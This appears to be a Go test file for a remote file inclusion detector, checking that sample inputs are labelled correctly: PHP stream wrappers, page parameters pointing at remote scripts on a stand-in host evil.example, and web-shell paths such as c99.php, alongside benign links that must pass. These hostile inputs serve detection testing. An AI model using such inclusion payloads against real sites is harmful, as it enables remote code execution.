package rfi_test

import (
	"testing"

	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
	"github.com/tangoguard/tangoguard/internal/detect/rfi"
)

func TestRules(t *testing.T) {
	detecttest.Table(t, rfi.Detector(), detecttest.Rows{
		{"a wrapper", "php://filter/resource=x", "stream-wrapper"},
		{"code in a wrapper", "data://text/plain;base64,PD9waHAK", "stream-wrapper"},
		{"a URL whose end swallows the rest", "/a.php?page=http://evil.example/x.txt?", "cut-off-url"},
		{"a script in a parameter for files", "/a.php?page=http://evil.example/x.php", "remote-include"},
		{"a web shell", "http://evil.example/c99.php", "web-shell"},
		{"a hidden script", "http://evil.example/.x/y.php", "web-shell"},
		{"a link to share", "https://social.example/sharer.php?u=https://example.org/page", ""},
		{"a redirect", "https://shop.example/redirect.php?url=https://example.org/", ""},
		{"a question", "Have you read http://example.org/a.txt?", ""},
	})
}

func TestCorpora(t *testing.T) { detecttest.Corpora(t, rfi.Detector()) }

func TestLinear(t *testing.T) {
	detecttest.Linear(t, rfi.Detector(), 100, "http://", "=http://a/", "a=http://a.b/c.php?", "data:", "php:", "//a.b/", "=//", "??", "http://a/.b", "&u=http://")
}
